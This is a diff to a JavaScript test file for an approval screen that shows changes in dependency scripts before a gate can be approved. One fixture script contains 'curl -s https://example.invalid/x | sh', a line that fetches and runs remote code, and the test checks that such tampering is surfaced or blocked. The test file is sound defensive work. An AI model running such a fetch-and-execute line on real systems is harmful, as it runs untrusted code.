@@ -21,11 +21,12 @@ function repo() {
 }
 
 describe('the approval screen shows what changed in a DEPENDS file', () => {
-  it('a diff against the approved version; a new DEPENDS file whole; nothing when never approved', () => {
+  it('a diff against the approved version; a new DEPENDS file whole; every file whole when never approved', () => {
     const s = repo();
     const first = s.run([]);
     expect(first.stdout).toContain('  never approved before');
-    expect(first.stdout).not.toContain('DIFF');
+    // Never approved: each DEPENDS file is shown whole, as added (round-7c attack: a renamed gate hid its scripts).
+    expect(first.stdout).toContain(['  DIFF    scripts/check.sh (approved version, then now):', '  | @@ -0,0 +1,2 @@', '  | +rows=3', '  | +echo "import verification passed ($rows rows)"'].join('\n'));
     expect(s.run(['--approve']).code).toBe(0);
     expect(readdirSync(s.copies)).toHaveLength(1);
     writeFiles(s.repo, { 'scripts/check.sh': 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n', 'scripts/helper.sh': 'exit 0\n' });
@@ -117,7 +118,7 @@ describe('the approval screen shows what changed in a DEPENDS file', () => {
     writeFiles(s.repo, { 'scripts/check.sh': big('touch PWNED\n') });
     const out = spawnSync('script', ['-qec', `${process.execPath} ${BIN} --approve || true`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'y\n', encoding: 'utf8' }).stdout.replace(/\r/g, '');
     expect(out).toMatch(/^ {2}DIFF {4}scripts\/check\.sh: no copy of the approved version is kept/m);
-    expect(out).toMatch(/^ {10}the version being approved has SHA-256 [0-9a-f]{16}…: read that one \(sha256sum\), then approve it by its pin$/m);
+    expect(out).toMatch(/^ {10}the version being approved has SHA-256 [0-9a-f]{64}: copy the file, check the copy's sha256sum, read the copy, then approve by the pin$/m);
     expect(out).toMatch(/^not shown in full \(DEPENDS scripts\/check\.sh, no diff\), so not approved at this prompt: .*--approve GATES:A@[0-9a-f]{32}$/m);
     expect(out).not.toMatch(/approve\? \[y\/N\/a\]/);
     expect(existsSync(join(s.repo, 'PWNED'))).toBe(false);
